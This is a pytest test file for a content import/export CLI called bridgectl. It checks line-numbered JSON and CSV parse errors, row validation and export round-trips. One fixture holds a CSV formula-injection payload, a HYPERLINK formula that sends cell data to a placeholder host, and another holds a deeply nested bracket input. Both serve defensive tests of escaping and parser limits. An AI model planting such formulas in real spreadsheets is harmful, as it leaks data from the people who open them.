"""`bridgectl content`: files with their lines, and what the bridge said of them."""

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from bridgectl.cli import app
from bridgectl.commands import content
from bridgectl.content_files import as_csv, parsed
from protocol.errors import BridgeError


@pytest.mark.parametrize(
    ("text", "line", "why"),
    [
        ("{}", 1, "a list of objects is expected"),
        ('[\n{"a": 1},\n{"b": 2,}\n]', 3, "is not JSON"),
        ('[\n{"a": 1}\n{"b": 2}]', 3, "',' or ']' is missing"),
        ('[{"a": 1},\n\n 7]', 3, "an object of fields"),
        ('[{"a": 1}]\n\nx', 3, "nothing is expected"),
        ('[\n{"a": NaN}]', 2, "is not JSON"),
        ('[{"a": 1}', 1, "',' or ']'"),
        ("[" + "[" * 100_000, 1, "is not JSON"),
    ],
)
def test_bad_json_is_named_by_its_line(text: str, line: int, why: str) -> None:
    with pytest.raises(BridgeError, match=rf"^x\.json:{line}: ") as caught:
        parsed(text.encode(), "x.json")
    assert why in str(caught.value)


def test_rows_know_their_lines() -> None:
    rows, texts = parsed(b'[\n {"number": "1"},\n\n {"number":\n "2", "kind": "faq"}]', "x.json", "news")
    assert [(row.line, row.values["kind"]) for row in rows] == [(2, "news"), (4, "faq")]
    assert not texts
    sheet = '\ufeffnumber,body\n1,"a\nb"\n\n2,c\n'
    rows, texts = parsed(sheet.encode(), "x.csv", "news")
    assert [(row.line, dict(row.values)) for row in rows] == [
        (2, {"kind": "news", "number": "1", "body": "a\nb"}), (5, {"kind": "news", "number": "2", "body": "c"}),
    ]  # fmt: skip
    assert texts


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("a,a\n1,2\n", "x.csv:1: the heading"),
        ("a,b\n1,2,3\n", "x.csv:2: has more cells"),
        ('a,b\n1,2\n"x"y,3\n', "x.csv:3: is not CSV"),
        ("a,b\n", "has no rows"),
        ("a\n\udcff", "x.csv:2: is not UTF-8"),
    ],
)
def test_bad_sheets_are_named_by_their_line(text: str, why: str) -> None:
    with pytest.raises(BridgeError, match=why):
        parsed(text.encode("utf-8", "surrogateescape"), "x.csv")


class Bridge:
    """What the bridge is told, and says."""

    def __init__(self) -> None:
        self.asked: list[dict[str, Any]] = []

    def __call__(self, config: Path | None, question: str, **more: Any) -> Any:
        self.asked.append({"question": question, **more})
        if question == "content-import":
            return {"rows": [self.said(row) for row in more["rows"]]}
        rows = [
            {"kind": "outage", "number": str(n), "areas": [{"area": "1", "name": "x", "streets": ["y"]}]}
            for n in (1, 2)
        ]
        at = 1 if more["after"] else 0
        return {"rows": rows[at : at + 1], "more": not at}

    def said(self, row: dict[str, Any]) -> Any:
        wrong = [{"field": "title", "why": "is missing"}] if "title" not in row else []
        return {"outcome": "wrong" if wrong else "new", "complaints": wrong}


@pytest.fixture
def bridge(monkeypatch: pytest.MonkeyPatch) -> Bridge:
    made = Bridge()
    monkeypatch.setattr(content, "_ask", made)
    return made


def run(*words: str) -> Result:
    return CliRunner().invoke(app, ["content", *words])


def test_with_one_wrong_row_nothing_is_taken(bridge: Bridge, tmp_path: Path) -> None:
    file = tmp_path / "news.json"
    rows = [{"kind": "news", "number": str(number), "title": "x"} for number in range(45)]
    del rows[42]["title"]
    file.write_text(json.dumps(rows, indent=0))
    result = run("import", str(file))
    assert result.exit_code == 1
    assert f"{file}:{1 + 42 * 5 + 1}: title: is missing" in result.stderr
    assert "1 of 45 rows are wrong" in str(result.exception)
    assert all(one["check"] for one in bridge.asked)
    rows[42]["title"] = "x"
    file.write_text(json.dumps(rows))
    assert "45 new, 0 changed, 0 as they were" in run("import", str(file), "--submit").stdout
    assert bridge.asked[-1]["submit"]
    rows[3]["number"] = "1"
    file.write_text(json.dumps(rows))
    assert "number: 1 is on line 1 too" in str(run("import", str(file), "--check").exception)


def test_an_export_has_all_parts_and_is_an_import(bridge: Bridge, tmp_path: Path) -> None:
    out = tmp_path / "outages.csv"
    assert run("export", "outage", "--out", str(out), "--format", "csv").exit_code == 0
    rows, _ = parsed(out.read_bytes(), str(out))
    assert [dict(row.values) for row in rows] == [
        {"kind": "outage", "number": n, "areas": "1 x: y"} for n in ("1", "2")
    ]
    assert json.loads(run("export", "outage").stdout)[1]["number"] == "2"
    assert as_csv([{"a": None, "b": ["x", "y"]}], ["a", "b"]) == 'a,b\r\n,"x\ny"\r\n'


def test_what_staff_wrote_runs_in_no_spreadsheet_and_comes_back_as_it_was() -> None:
    """An export holds drafts, too, which no second person has seen."""
    row = {
        "number": "1",
        "title": '=HYPERLINK("http://x/?"&A2)',
        "phone": "+86 10",
        "body": "- one\n- two",
        "more": "'=1",
    }
    sheet = as_csv([row], list(row))
    for cell in next(csv.reader(sheet.splitlines()[1:])):
        assert not cell.startswith(("=", "+", "-", "@"))
    ((read,), _) = parsed(sheet.encode(), "x.csv", "news")
    assert dict(read.values) == row | {"kind": "news"}
